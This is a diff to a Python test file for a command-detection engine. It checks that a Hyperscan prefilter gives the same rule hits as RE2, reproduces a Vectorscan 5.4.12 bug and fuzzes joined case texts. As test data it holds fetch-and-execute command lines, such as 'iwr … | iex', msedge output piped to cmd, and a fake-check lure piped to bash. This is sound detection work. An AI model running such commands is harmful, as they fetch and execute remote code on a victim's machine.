@@ -1,11 +1,13 @@
 """Hyperscan as the rules' prefilter (app/detection/hsfilter.py): with the database the rules hit
-exactly what they hit without it, on every case file, on engine layers and on hostile bytes; a
+exactly what they hit without it, on every case file, on engine layers, on hostile bytes and on
+random joins of cases, and the texts a broken library (Vectorscan 5.4.12) missed are found; a
 database that is missing, damaged, made for other rules or for another Hyperscan is not used,
-and neither is Hyperscan itself when it is not installed."""
+and neither is Hyperscan itself when it is not installed or not a proven binding."""
 
 from __future__ import annotations
 
 import json
+import random
 import shutil
 import sys
 from collections.abc import Iterator
@@ -286,29 +288,76 @@ def test_without_hyperscan_installed_the_rules_are_matched_as_before(
     assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]
 
 
-def test_rule_matching_does_not_use_the_database_unless_asked(
+def test_the_database_is_used_unless_switched_off_and_only_with_a_proven_binding(
     rules: list[Rule], database: Path, monkeypatch: pytest.MonkeyPatch, using: None
 ) -> None:
+    import hyperscan
+
     with_database(monkeypatch, database)
     monkeypatch.delenv(hsfilter.ENABLE_VARIABLE, raising=False)
+    assert hyperscan.__version__ in hsfilter.PROVEN_BINDINGS, "pyproject pins a proven binding"
+    assert CompiledRules(rules)._hs is not None
+    monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "0")
+    assert CompiledRules(rules)._hs is None
+    # a binding the database was not proven with: matched without it, unless asked for
+    monkeypatch.setattr(hsfilter, "PROVEN_BINDINGS", ("0.0.0",))
+    monkeypatch.delenv(hsfilter.ENABLE_VARIABLE)
     assert CompiledRules(rules)._hs is None
     monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "1")
     assert CompiledRules(rules)._hs is not None
 
 
-# Texts on which the wheel's Hyperscan library reports fewer patterns than RE2 finds (each
-# pattern alone does match them): why the database is off (hsfilter.ENABLE_VARIABLE). When a
-# library passes this test, the prefilter may be reconsidered, after a fuzz of joined cases.
-KNOWN_MISSES = [
+# Texts on which Vectorscan 5.4.12 (the library of hyperscan wheels 0.7.23 on) reported no
+# pattern where RE2 finds one (VectorCamp/vectorscan#382): the first in a database of the rule
+# patterns, the second even alone, as minimised below. The pinned binding must find them.
+MISSED_BY_VECTORSCAN_5_4_12 = [
     '@ab.cd msedge --headless --dump-dom https://pages.note-sync.test/c | cmd" conhost'
     ' --headless cmd /c "msedge --headless --dump-dom https://pages.note-sync.test/c | cmd"',
     "echo 'Checking your connection...'\n" + "\t\t\n" * 11 + "nstall.sh | bash",
 ]
 
 
-@pytest.mark.parametrize("text", KNOWN_MISSES)
-def test_the_library_still_misses_what_keeps_the_database_off(
+@pytest.mark.parametrize("text", MISSED_BY_VECTORSCAN_5_4_12)
+def test_texts_the_broken_library_missed_get_the_hits_re2_finds(
     both: tuple[CompiledRules, CompiledRules], text: str
 ) -> None:
     fast, exact = both
-    assert exact.hits(text)[0] - fast.hits(text)[0], "the library found them: see KNOWN_MISSES"
+    found = exact.hits(text)[0]
+    assert found and fast.hits(text)[0] == found
+    data = text.encode()
+    reported = {fast._hs_index[k] for k in fast._hs.scan(data)} if fast._hs else set()
+    assert found <= reported  # the database itself, not RE2 after it
+
+
+def test_the_broken_librarys_smallest_miss_is_found() -> None:
+    import hyperscan
+
+    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+    database.compile(expressions=[rb"@[a-z]+.*\|\s*cmd"], ids=[0], elements=1, flags=0)
+    found: list[int] = []
+    database.scan(
+        b"@g--headless --dump-dom https://pages.note-sync.test/c | cmd",
+        match_event_handler=hsfilter._collect,
+        context=found,
+    )
+    assert found == [0]  # Vectorscan 5.4.12: []
+
+
+def test_random_joins_of_cases_get_the_same_hits_with_and_without_the_database(
+    both: tuple[CompiledRules, CompiledRules],
+) -> None:
+    """A short, seeded form of the fuzz that proved the pinned binding (20+ minutes of joins of
+    case, corpus and blind texts): parts of two to four case texts, joined by what separates
+    commands, ASCII or not."""
+    fast, exact = both
+    texts = case_texts()
+    rng = random.Random(12)
+    seps = [" ", " | ", "\n", "; ", "\t\t\n", " && ", "\u00a0", " é ", "中", "`"]
+    for _ in range(4000):
+        parts = []
+        for _ in range(rng.choice([2, 2, 3, 4])):
+            t = rng.choice(texts)
+            i = rng.randrange(len(t) + 1)
+            parts.append(t[i:] if rng.random() < 0.5 else t[:i] or t)
+        text = rng.choice(seps).join(parts)
+        assert fast.hits(text) == exact.hits(text), text[:300]
